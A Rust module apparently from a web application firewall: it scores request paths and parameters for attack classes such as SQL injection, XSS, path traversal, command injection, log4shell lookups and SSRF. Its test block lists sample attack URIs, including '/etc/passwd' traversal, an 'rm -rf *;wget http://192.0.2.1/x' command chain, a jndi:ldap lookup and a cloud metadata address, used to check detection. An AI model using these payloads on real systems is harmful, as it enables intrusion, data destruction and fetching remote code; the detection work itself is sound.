//! What an opened request tries: each path and parameter is given points for each sort of attack.
//!
//! The points are our own and fixed: no learning, no state, the same answer everywhere. A value reaches
//! a class at [`ENOUGH`] points; the class with the most is the request's. Of a value at most
//! [`VALUE_BYTES_MAX`] bytes are looked at, and only by judges whose marks are in it, so that a search
//! for shoes costs one table look-up a byte. Nothing here says whether the attack worked.

pub mod expression;
pub mod phrases;
pub mod place;
pub mod script;
pub mod shell;
pub mod sql;

use self::phrases::{Found, Sort};
use super::uri::Opened;

/// Bytes of one value that are judged; of a longer one, its first and its last half as many.
pub const VALUE_BYTES_MAX: usize = 4 << 10;

/// Points from which a value counts as an attack.
pub const ENOUGH: u32 = 5;

/// What a value tries.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Class {
    /// SQL injection.
    Sqli,
    /// Script for another's browser.
    Xss,
    /// A way out of the web root, or a file that nobody asks for.
    Traversal,
    /// A command of the system.
    Cmdi,
    /// A lookup that fetches code (log4shell).
    Lookup,
    /// Code of PHP and its like.
    Code,
    /// An expression of a template language.
    Template,
    /// Entities of XML.
    Entity,
    /// A serialised object.
    Object,
    /// Header lines within a value.
    Header,
    /// Another server's address, or one that only this server can reach.
    Remote,
    /// Marks that only try how errors look.
    Fuzz,
}

impl Class {
    /// All, in the order in which equals are decided.
    pub const ALL: [Self; 12] = [
        Self::Lookup,
        Self::Entity,
        Self::Object,
        Self::Header,
        Self::Cmdi,
        Self::Template,
        Self::Code,
        Self::Sqli,
        Self::Xss,
        Self::Remote,
        Self::Traversal,
        Self::Fuzz,
    ];

    /// As rules name it.
    pub fn name(self) -> &'static str {
        match self {
            Self::Sqli => "sqli",
            Self::Xss => "xss",
            Self::Traversal => "traversal",
            Self::Cmdi => "cmdi",
            Self::Lookup => "lookup",
            Self::Code => "code",
            Self::Template => "template",
            Self::Entity => "entity",
            Self::Object => "object",
            Self::Header => "header",
            Self::Remote => "remote",
            Self::Fuzz => "fuzz",
        }
    }
}

/// What a request tries most, and how clearly.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Payload {
    /// What.
    pub class: Class,
    /// Its points: at least [`ENOUGH`].
    pub points: u32,
}

/// The clearest payload of a request; `None` when nothing in it reaches [`ENOUGH`].
pub fn of_request(opened: &Opened) -> Option<Payload> {
    let mut best = of_value(opened.path());
    if best.is_none() && has(opened.path(), MARK | CONTROL) {
        let fuzzed = |segment: &[u8]| expression::fuzz_points(&segment.to_ascii_lowercase());
        let points = opened.path().split(|byte| *byte == b'/').map(fuzzed).max().unwrap_or(0);
        best = (points >= ENOUGH).then_some(Payload { class: Class::Fuzz, points });
    }
    for parameter in opened.parameters() {
        let (name, value) = match memchr::memchr(b'=', parameter) {
            Some(at) if is_plain_name(&parameter[..at]) => (&parameter[..at], &parameter[at + 1..]),
            _ => (&b""[..], parameter),
        };
        let found = of_value(value).or_else(|| if has(name, MARK) { of_value(name) } else { None });
        best = clearer(best, found);
    }
    best
}

/// The clearer of two; the first of equals.
fn clearer(one: Option<Payload>, other: Option<Payload>) -> Option<Payload> {
    let fuzz = |payload: &Payload| payload.class == Class::Fuzz;
    match (one, other) {
        (Some(a), Some(b)) if (!fuzz(&b), b.points) > (!fuzz(&a), a.points) => Some(b),
        (None, other) => other,
        (one, _) => one,
    }
}

/// The clearest payload of one value.
pub fn of_value(value: &[u8]) -> Option<Payload> {
    if value.len() > VALUE_BYTES_MAX {
        let half = VALUE_BYTES_MAX / 2;
        return of_value(&[&value[..half], &value[value.len() - half..]].concat());
    }
    let marks = marks(value);
    if marks & (MARK | SLASH | DOT | BLANK | CONTROL) == 0 && value.len() < 128 {
        return None;
    }
    let value = value.to_ascii_lowercase();
    let value = value.as_slice();
    if marks & (MARK | SLASH | CONTROL) == 0 && value.len() < 128 && !worded(value) {
        return None;
    }
    let found = Found::within(value);
    let points = |class: Class| match class {
        Class::Sqli => sql::points(value, &found),
        Class::Xss => script::points(value, &found),
        Class::Traversal => place::points(value, &found),
        Class::Cmdi => shell::points(value, &found),
        Class::Lookup => expression::lookup_points(value),
        Class::Code => found.points(Sort::Code),
        Class::Template => expression::template_points(value, &found),
        Class::Entity => found.points(Sort::Entity),
        Class::Object => expression::object_points(value, &found),
        Class::Header => expression::header_points(value),
        Class::Remote => place::remote_points(value, &found),
        Class::Fuzz => 0,
    };
    let mut best: Option<Payload> = None;
    for class in Class::ALL {
        if !relevant(class, marks, value.len()) {
            continue;
        }
        let points = points(class);
        if points >= ENOUGH && best.is_none_or(|best| points > best.points) {
            best = Some(Payload { class, points });
        }
    }
    best.or_else(|| {
        let points = if marks & (MARK | CONTROL) == 0 { 0 } else { expression::fuzz_points(value) };
        (points >= ENOUGH).then_some(Payload { class: Class::Fuzz, points })
    })
}

const MARK: u8 = 1;
const SLASH: u8 = 2;
const DOT: u8 = 4;
const BLANK: u8 = 8;
const CONTROL: u8 = 16;
const ANGLE: u8 = 32;
const BRACE: u8 = 64;

/// Which sorts of marks a byte is.
const SORTS: [u8; 256] = {
    let mut sorts = [0; 256];
    let mut byte = 0;
    while byte < 256 {
        sorts[byte] = match byte as u8 {
            b'<' | b'>' => MARK | ANGLE,
            b'{' | b'}' | b'$' => MARK | BRACE,
            b'\'' | b'"' | b'(' | b')' | b';' | b'|' | b'&' | b'`' | b'#' | b'=' | b'*' | b'^'
            | b'!' => MARK,
            b':' | b'\\' => SLASH | MARK,
            b'/' => SLASH,
            b'.' => DOT,
            b' ' => BLANK,
            b'%' | b'@' => MARK,
            0..=31 | 127 => CONTROL | BLANK,
            _ => 0,
        };
        byte += 1;
    }
    sorts
};

fn marks(value: &[u8]) -> u8 {
    value.iter().fold(0, |marks, byte| marks | SORTS[usize::from(*byte)])
}

fn has(value: &[u8], sort: u8) -> bool {
    marks(value) & sort != 0
}

/// Whether a class is worth asking about a value with these marks.
fn relevant(class: Class, marks: u8, length: usize) -> bool {
    match class {
        Class::Sqli | Class::Cmdi => marks & (MARK | BLANK | SLASH) != 0,
        Class::Xss | Class::Code | Class::Object => marks & MARK != 0,
        Class::Traversal => marks & (SLASH | DOT) != 0 || length >= 128,
        Class::Lookup => marks & BRACE != 0,
        Class::Template => marks & (BRACE | ANGLE | MARK) != 0,
        Class::Entity => marks & ANGLE != 0,
        Class::Header => marks & CONTROL != 0,
        Class::Remote => marks & SLASH != 0,
        Class::Fuzz => false,
    }
}

/// Whether a value of words alone has one that makes it worth asking.
fn worded(value: &[u8]) -> bool {
    let telling = |word: &[u8]| {
        matches!(word, b"select" | b"or" | b"and" | b"by" | b"waitfor" | b"having")
            || word.starts_with(b"-")
            || word.starts_with(b"adw-")
            || word.starts_with(b"0x2")
    };
    value.split(|byte| *byte == b' ').any(telling) || value.windows(2).any(|pair| pair == b"..")
}

fn is_plain_name(name: &[u8]) -> bool {
    name.iter().all(|byte| {
        byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'.' | b'[' | b']' | b':')
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn class(uri: &str) -> &'static str {
        of_request(&Opened::of(uri.as_bytes())).map_or("", |payload| payload.class.name())
    }

    #[test]
    fn requests_are_named_by_what_they_try() {
        for (uri, expected) in [
            ("/a?id=1%27%20OR%201=1--", "sqli"),
            ("/a?id=1'+or+'1'='1", "sqli"),
            ("/a?id=-1+union+all+select+1,2", "sqli"),
            ("/a/1'%20and%20sleep(5)/b", "sqli"),
            ("/a?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
            ("/a?q=%26lt;script%26gt;", "xss"),
            ("/../../../../etc/passwd", "traversal"),
            ("/cgi-bin/.%2e/.%2e/bin/id", "traversal"),
            ("/a?f=php://filter/x", "traversal"),
            ("/a?x=;cat%20/etc/hosts", "cmdi"),
            ("/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/x", "cmdi"),
            ("/?x=${jndi:ldap://192.0.2.1/a}", "lookup"),
            ("/?x=%7B%7B7*7%7D%7D", "template"),
            ("/?x=phpinfo()", "code"),
            ("/?x=%3C!DOCTYPE%20a%20[%3C!ENTITY%20b%20SYSTEM%20%22c%22%3E]%3E", "entity"),
            ("/?x=O:8:%22stdClass%22:0:%7B%7D", "object"),
            ("/?x=a%0d%0aSet-Cookie:%20b=c", "header"),
            ("/?x=http://169.254.169.254/latest/", "remote"),
            ("/?x='", "fuzz"),
            ("/", ""),
            ("/search?q=select+a+hotel+in+union+square", ""),
            ("/search?q=shoes+5&page=2", ""),
            ("/p?u=https%3A%2F%2Fexample.org%2Fa%3Fb%3D1%26c%3D2", ""),
            ("/a?filter[name]=x&sort=-date&ids=1,2,3", ""),
            ("/static/app.0a1b2c3d.js?v=1.2.3", ""),
            ("/wiki/C%2B%2B_(language)", ""),
            ("/search?q=o%27brien", ""),
            ("/a?utm_source=x&utm_campaign=sale%20%26%20more", ""),
            ("/a?t=2024-05-01T10:00:00Z&tz=Europe/Berlin", ""),
            ("/a?json=%7B%22a%22:1,%22b%22:[1,2]%7D", ""),
        ] {
            assert_eq!(class(uri), expected, "{uri}");
        }
    }

    #[test]
    fn what_is_beyond_the_limit_is_not_judged() {
        let padded = |before: usize, after: usize| {
            let (before, after) = ("x+".repeat(before / 2), "+x".repeat(after / 2));
            class(&format!("/?q={before}'%20or%201=1{after}"))
        };
        assert_eq!(padded(VALUE_BYTES_MAX, 0), "sqli");
        assert_eq!(padded(0, VALUE_BYTES_MAX), "sqli");
        assert_eq!(padded(VALUE_BYTES_MAX / 2 - 32, VALUE_BYTES_MAX / 2), "sqli");
        assert_eq!(padded(VALUE_BYTES_MAX, VALUE_BYTES_MAX), "");
    }
}
